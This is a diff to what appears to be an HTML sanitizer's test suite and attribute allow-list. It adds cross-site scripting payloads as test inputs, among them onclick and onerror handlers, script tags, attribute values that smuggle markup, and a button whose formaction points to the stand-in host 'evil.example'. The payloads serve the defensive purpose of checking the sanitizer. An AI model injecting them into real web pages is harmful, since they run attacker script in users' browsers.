@@ -44,6 +44,13 @@ ATTACKS = [
     '=== "<img src=x onerror=alert(1)>"\n    x\n=== "</h2><script>alert(1)</script>"\n    x',
     "<a class='run-link bar' href='javascript:alert(1)'>x</a>",
     "<details open ontoggle=alert(1)>x</details>",
+    "<details class='bar deeper' onclick=alert(1)><summary class='btn' style='x'>x</summary></details>",
+    "<button class='mark btn' popovertarget='theme-menu' type='submit' form='x'>x</button>",
+    "<button popovertarget='mark-1-1' type='submit' formaction='//evil.example' onclick='alert(1)'>x</button>",
+    "<button popovertarget='mark-1-1<script>'>x</button><div id='mark-1-1' popover='manual'>x</div>",
+    "<div popover='auto' id='outline'>x</div><span data-line='\" onclick=alert(1)'>x</span>",
+    '```text title="</b><script>x</script>" linenums hide="1"\n<script>x</script> # (1)!\n```\n\n1. <b onclick=x>y</b>',
+    '??? "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
     "<a href='javascript:alert(1)'>x</a>",
     "<a href='java\tscript:alert(1)'>x</a>",
     "<a href=' &#106;avascript:alert(1)'>x</a>",
@@ -200,7 +207,15 @@ class Reader(HTMLParser):
             elif name == "align":
                 allowed = tag in ("td", "th") and value in ALIGNMENTS
             elif name == "id" and tag == "div":
-                allowed = re.fullmatch(r"tab-\d+-[\w-]+", value)
+                allowed = re.fullmatch(r"tab-\d+-[\w-]+|mark-\d+-\d+", value)
+            elif name == "popovertarget":
+                allowed = tag == "button" and re.fullmatch(r"mark-\d+-\d+", value)
+            elif name in ("data-line", "data-note"):
+                allowed = tag in ("span", "button") and value.isdigit()
+            elif name == "popover":
+                allowed = tag == "div" and value == "auto"
+            elif name == "type":
+                allowed = tag == "button" and value == "button"
             elif name == "role":
                 allowed = tag == "aside" and value == "note"
             elif name == "href":
